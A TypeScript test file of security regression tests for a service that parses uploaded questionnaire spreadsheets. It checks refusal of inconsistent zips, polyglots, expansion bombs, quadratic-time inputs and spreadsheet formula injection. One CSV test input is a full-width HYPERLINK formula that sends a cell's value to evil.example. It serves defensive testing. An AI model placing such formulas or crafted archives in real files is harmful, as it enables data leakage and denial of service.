// Issue 13, file side: each finding has a named test with a small crafted file built in code
// (test/hostile/files.ts). On the code before the fix these either pass a hostile archive on to
// SheetJS (200 / 500 / out of memory), loop forever, or take seconds where a normal file of the
// same size takes milliseconds.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../src/messages/error';
import { classifyHeader } from '../../src/questionnaire/detect';
import { parseCsv, writeCsvTable } from '../../src/questionnaire/csv';
import { MAX_ANALYSIS_CHARS } from '../../src/questionnaire/limits';
import { processQuestionnaire } from '../../src/questionnaire/pipeline';
import { neutralizeFormula } from '../../src/questionnaire/sanitize';
import { patchSheetXml } from '../../src/questionnaire/write-xlsx';
import { measureSheet, readXlsx } from '../../src/questionnaire/xlsx';
import { cellKey, choicesAt, mergeAt, type CellRange, type SheetModel } from '../../src/questionnaire/model';
import { attributeList, decodeXmlEntities, scanXml } from '../../src/questionnaire/xml';
import { MAX_QUESTION_CHARS, questionForLookup } from '../../src/search/contract';
import * as H from '../hostile/files';

function outcome(bytes: Uint8Array, fileName = 'q.xlsx', format: 'json' | 'file' = 'json'): { status: number; code: string; details?: unknown } {
  try {
    const o = processQuestionnaire({ bytes, fileName, contentType: '', product: 'LeySerKids' });
    if (format === 'file') o.filledFile();
    return { status: 200, code: 'ok' };
  } catch (e) {
    if (e instanceof AppError) return { status: e.status, code: e.code, details: e.details };
    throw e;
  }
}

describe('finding 1: the zip is read once, local headers checked against the central directory', () => {
  it.each(Object.entries(H.LOCAL_HEADER_LIES))('%s → 400 inconsistent_zip', (_name, build) => {
    const bytes = build();
    expect(bytes.length).toBeLessThan(4096);
    expect(outcome(bytes)).toMatchObject({ status: 400, code: 'inconsistent_zip' });
  });

  it('the honest archive the lies are made from is answered', () => {
    expect(outcome(H.rawZip(Object.entries(H.goodParts()).map(([name, data]) => ({ name, data })))).status).toBe(200);
    expect(outcome(H.rawZip(Object.entries(H.goodParts()).map(([name, data]) => ({ name, data, descriptor: true })))).status).toBe(200);
    expect(outcome(H.storedWorkbook(H.normalSheetXml(2000))).status).toBe(200);
  });

  it('real published templates still read (CAIQ, HECVAT, MSTG)', () => {
    for (const f of ['en-caiq-v4.0.3-blank.xlsx', 'en-hecvat-4.1.4-blank.xlsx', 'ja-owasp-mstg-checklist-1.2.xlsx']) {
      const bytes = new Uint8Array(readFileSync(path.resolve(import.meta.dirname, '../fixtures/real', f)));
      expect([200, 422], f).toContain(outcome(bytes).status);
    }
  });
});

describe('finding 2: the package decides its format; other formats inside a .xlsx are refused', () => {
  it.each(Object.entries(H.POLYGLOTS))('%s → 415 mixed_package', (_name, build) => {
    expect(outcome(build())).toMatchObject({ status: 415, code: 'mixed_package' });
  });
});

describe('finding 3: an unclosed last <row> ends the write-back instead of looping', () => {
  it('the upload is refused as malformed XML before anything is written', () => {
    expect(outcome(H.unclosedLastRow(), 'q.xlsx', 'file')).toMatchObject({ status: 400, code: 'invalid_xlsx' });
  });

  it('patchSheetXml on an unclosed row returns, with the edit reported as not placed', () => {
    const xml = '<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c>';
    const edit = { sheet: 'S', r: 1, c: 1, text: 'x', isChoice: false };
    const out = patchSheetXml(xml, [edit]);
    expect(out.unplaced).toEqual([edit]);
  });
});

describe('finding 4: what parsing builds is bounded, not only the bytes', () => {
  it('1.4 M tiny shared strings in a 60 KB file → 413 workbook_too_complex (shared_strings)', () => {
    const bytes = H.manySharedStrings(1_400_000);
    expect(bytes.length).toBeLessThan(100_000);
    expect(outcome(bytes)).toMatchObject({ status: 413, code: 'workbook_too_complex', details: { measure: 'shared_strings' } });
  });

  it('1 M valueless styled cells → 413 workbook_too_complex (cell_elements)', () => {
    expect(outcome(H.valuelessCells(20_000))).toMatchObject({ status: 413, code: 'workbook_too_complex', details: { measure: 'cell_elements' } });
  });

  it('400,000 cell formats in a 66 KB file → 413 workbook_too_complex (cell_formats); SheetJS gets number formats only', () => {
    const bytes = H.manyCellFormats(400_000);
    expect(bytes.length).toBeLessThan(100_000);
    expect(outcome(bytes)).toMatchObject({ status: 413, code: 'workbook_too_complex', details: { measure: 'cell_formats' } });
    expect(outcome(H.manyCellFormats(1_000)).status).toBe(200);
  });

  it('XML nested deeper than 64 levels → 400 invalid_xlsx', () => {
    const deep = `${'<x>'.repeat(100)}${'</x>'.repeat(100)}`;
    expect(outcome(H.sheetWorkbook(H.normalSheetXml(2000).replace('</worksheet>', `${deep}</worksheet>`)))).toMatchObject({ status: 400, code: 'invalid_xlsx' });
  });
});

/** Median time of `fn` over a few runs (ms). */
/** Fastest of `runs`: the least disturbed by GC pauses and other processes on a busy machine. */
function timeOf(fn: () => unknown, runs = 5): number {
  const samples: number[] = [];
  for (let i = 0; i < runs; i++) {
    const t = performance.now();
    try {
      fn();
    } catch {
      // refusals count as work done
    }
    samples.push(performance.now() - t);
  }
  return Math.min(...samples);
}

/**
 * Ratio of a pathological input's time to a normal input of the same size. A quadratic scanner
 * shows ratios in the hundreds at 200 KB; the bound leaves room for noise on a busy machine (a
 * bound of 8 on the median of 3 failed once under a load average of 9).
 */
const MAX_RATIO = 20;
const SIZE = 200_000;

describe('finding 5: linear-time scanners (pathological input vs a normal one of the same size)', () => {
  const normalXml = H.normalSheetXml(SIZE);
  const base = Math.max(
    timeOf(() => measureSheet(normalXml)),
    1,
  );

  it.each(Object.entries(H.QUADRATIC_SHEET_XML))('worksheet measure: %s', (_name, build) => {
    const xml = build(SIZE);
    expect(timeOf(() => measureSheet(xml)) / base).toBeLessThan(MAX_RATIO);
  });

  it.each(Object.entries(H.QUADRATIC_SHEET_XML))('XML scan: %s', (_name, build) => {
    const xml = build(SIZE);
    const scanBase = Math.max(
      timeOf(() => scanXml(normalXml, { maxDepth: 64 })),
      1,
    );
    expect(timeOf(() => scanXml(xml, { maxDepth: 64 })) / scanBase).toBeLessThan(MAX_RATIO);
  });

  it('attribute parsing: one attribute name of 200 KB, and 20,000 unterminated values', () => {
    const normal = ' r="A1" s="3" t="s"'.repeat(SIZE / 20);
    const attrBase = Math.max(
      timeOf(() => attributeList(normal)),
      1,
    );
    expect(timeOf(() => attributeList(`<c ${'a'.repeat(SIZE)}>`)) / attrBase).toBeLessThan(MAX_RATIO);
    expect(timeOf(() => attributeList(' a="'.repeat(SIZE / 4))) / attrBase).toBeLessThan(MAX_RATIO);
  });

  it('entity decoding: a long run of digits after &#', () => {
    const normal = 'a&amp;b '.repeat(SIZE / 8);
    const entBase = Math.max(
      timeOf(() => decodeXmlEntities(normal)),
      1,
    );
    expect(timeOf(() => decodeXmlEntities(`&#x${'1'.repeat(SIZE)}`)) / entBase).toBeLessThan(MAX_RATIO);
  });

  it('write-back: a cell tag with a 200 KB attribute name', () => {
    const xml = `<worksheet><sheetData><row r="1"><c r="A1" ${'a'.repeat(SIZE)}><v>1</v></c></row></sheetData></worksheet>`;
    const normal = `<worksheet><sheetData><row r="1"><c r="A1" ${'s="1" '.repeat(SIZE / 6)}><v>1</v></c></row></sheetData></worksheet>`;
    const edit = [{ sheet: 'S', r: 0, c: 0, text: 'x', isChoice: false }];
    const wBase = Math.max(
      timeOf(() => patchSheetXml(normal, edit)),
      1,
    );
    expect(timeOf(() => patchSheetXml(xml, edit)) / wBase).toBeLessThan(MAX_RATIO);
  });

  it('header cells: a 100 KB run of ※ (and of spaces around a keyword)', () => {
    const normal = 'ご質問の内容'.repeat(SIZE / 36);
    const hBase = Math.max(
      timeOf(() => classifyHeader(normal)),
      1,
    );
    expect(timeOf(() => classifyHeader(`質問${'※'.repeat(SIZE / 3)}x`)) / hBase).toBeLessThan(MAX_RATIO);
    expect(classifyHeader('※回答※')).toBe('answer');
  });

  it('CSV: a file whose header cell is one long run of ※, end to end', () => {
    const csvBase = Math.max(
      timeOf(() => parseCsv(H.normalCsv(SIZE), 10_000, () => new Error('rows'))),
      1,
    );
    const crafted = H.csvWithLongHeaderCell(SIZE);
    expect(timeOf(() => outcome(crafted, 'q.csv'), 1) / csvBase).toBeLessThan(MAX_RATIO * 10);
  });
});

describe('finding 6: the question cap holds after NFKC; total analysis work is bounded', () => {
  it('U+FDFA (18 characters under NFKC) cannot carry a question past 2,000 characters', () => {
    const { question, truncated } = questionForLookup('\uFDFA'.repeat(MAX_QUESTION_CHARS));
    expect(truncated).toBe(true);
    expect(question.length).toBeLessThanOrEqual(MAX_QUESTION_CHARS);
  });

  it('a cut never splits a surrogate pair, and lone surrogates become U+FFFD', () => {
    const { question } = questionForLookup(`${'a'.repeat(MAX_QUESTION_CHARS - 1)}😀`);
    expect(question.endsWith('\ud83d')).toBe(false);
    expect(questionForLookup('ab\ud800c').question).toBe('ab\ufffdc');
  });

  it(`a questionnaire over ${MAX_ANALYSIS_CHARS} analysed characters → 413 questionnaire_too_long, before any lookup`, () => {
    const bytes = H.csvOfExpandingQuestions(400, 112);
    expect(bytes.length).toBeLessThan(200_000);
    const t = performance.now();
    expect(outcome(bytes, 'q.csv')).toMatchObject({ status: 413, code: 'questionnaire_too_long' });
    expect(performance.now() - t).toBeLessThan(2_000);
  });
});

describe('low: full-width ＝＋－＠ are neutralized like their ASCII forms', () => {
  it.each(['＝SUM(A1:A9)', '＋1', '－1', '＠SUM(A1)'])('%s gets a leading apostrophe', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it('in the review CSV', () => {
    const csv = new TextDecoder().decode(writeCsvTable([['質問'], ['＝HYPERLINK("https://example.com","x")']]));
    expect(csv).toContain(`'＝HYPERLINK`);
  });

  it('in a questionnaire row sent to review', () => {
    const bytes = new TextEncoder().encode('質問,回答,備考\n＝HYPERLINK("https://evil.example/"&A1;"詳細")ですか。,,\n');
    const review = new TextDecoder().decode(processQuestionnaire({ bytes, fileName: 'q.csv', contentType: '', product: 'LeySerKids' }).reviewCsv().bytes);
    expect(review).toContain(`'＝HYPERLINK`);
  });
});

describe('low: wrangler.toml bounds the CPU of a request', () => {
  it('[limits] cpu_ms is set, between 10 s and the 5 minute maximum', () => {
    const toml = readFileSync(path.resolve(import.meta.dirname, '../../wrangler.toml'), 'utf8');
    const m = /^\[limits\]\s*\n(?:#.*\n)*cpu_ms\s*=\s*(\d+)/m.exec(toml);
    expect(m).not.toBeNull();
    expect(Number(m?.[1])).toBeGreaterThanOrEqual(10_000);
    expect(Number(m?.[1])).toBeLessThanOrEqual(300_000);
  });
});

// Issue 19: structures SheetJS (or kaitou after it) expanded without a bound. Each crafted file is
// built in test/hostile/files.ts; the Node harness with a 128 MB heap (hostile-heap.test.ts) and the
// Workers pool (test/worker/hostile-structures.test.ts) run the same files.
describe('issue 19, high: what SheetJS would expand is bounded or never handed to it (.xlsx)', () => {
  it.each(Object.entries(H.EXPANDING_XLSX))('%s', (_name, { build, expect: want }) => {
    const bytes = build();
    expect(bytes.length).toBeLessThan(1_000_000);
    const t = performance.now();
    const got = outcome(bytes);
    if (want.status === 200) expect(got.status).toBe(200);
    else expect(got).toMatchObject({ status: 413, code: 'workbook_too_complex', details: { measure: want.measure } });
    // before: seconds to minutes, or out of memory
    expect(performance.now() - t).toBeLessThan(10_000);
  });

  it('SheetJS gets <sheetData> without formulas; kaitou still knows every formula cell, shared ones included', () => {
    const sheet = `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${H.questionRows(3)}<row r="5"><c r="B5"><f t="shared" ref="B5:B7" si="0">A5&amp;"x"</f><v>1</v></c></row><row r="6"><c r="B6"><f t="shared" si="0"/></c></row><row r="7"><c r="B7" t="str"><f t="shared" si="0"/><v>y</v></c></row></sheetData><hyperlinks><hyperlink ref="A1:Z400000" display="x"/></hyperlinks><mergeCells count="1"><mergeCell ref="C2:D2"/></mergeCells></worksheet>`;
    const { model } = readXlsx(H.sheetWorkbook(sheet));
    const s = model.sheets[0]!;
    expect([...(s.formulas ?? [])].sort((a, b) => a - b)).toEqual([cellKey(4, 1), cellKey(5, 1), cellKey(6, 1)]);
    // cached values are read, a formula without one reads as empty
    expect([s.cells[4]?.[1], s.cells[5]?.[1] ?? '', s.cells[6]?.[1]]).toEqual(['1', '', 'y']);
    expect(s.merges).toEqual([{ s: { r: 1, c: 2 }, e: { r: 1, c: 3 } }]);
  });

  it('merges and dropdowns within the bounds are read, and each row asks only its own ranges (linear)', () => {
    const sheetOf = (merges: number): SheetModel => {
      const ms: CellRange[] = [];
      for (let i = 0; i < merges; i++) ms.push({ s: { r: Math.floor(i / 4), c: 3 + (i % 4) * 2 }, e: { r: Math.floor(i / 4), c: 4 + (i % 4) * 2 } });
      const ranges = ms.map((m) => ({ s: { r: m.s.r, c: 1 }, e: { r: m.s.r, c: 1 } }));
      return { name: 'S', hidden: false, cells: Array.from({ length: 5_000 }, () => ['q']), merges: ms, validations: [{ ranges, choices: ['はい', 'いいえ'] }] };
    };
    const ask = (s: SheetModel) => {
      let found = 0;
      for (let r = 0; r < 5_000; r++) for (let c = 0; c < 12; c++) if (mergeAt(s, r, c) || choicesAt(s, r, c)) found++;
      return found;
    };
    const small = sheetOf(20);
    const large = sheetOf(20_000);
    expect(ask(large)).toBe(5_000 * 9);
    const base = Math.max(
      timeOf(() => ask(sheetOf(20))),
      1,
    );
    void small;
    // before: every merge and range checked for every cell asked: 20,000 × 60,000 (seconds)
    expect(timeOf(() => ask(sheetOf(20_000)), 3) / base).toBeLessThan(MAX_RATIO);
  });

  it('honest workbooks near the new bounds are answered: the real templates keep their merges, dropdowns and formulas', () => {
    expect(outcome(H.manyMergesAndDropdowns(200, 20_000)).status).toBe(200);
    const hecvat = new Uint8Array(readFileSync(path.resolve(import.meta.dirname, '../fixtures/real/en-hecvat-4.1.4-blank.xlsx')));
    const { model } = readXlsx(hecvat);
    expect(model.sheets.reduce((n, s) => n + (s.formulas?.size ?? 0), 0)).toBe(17_782);
  });
});
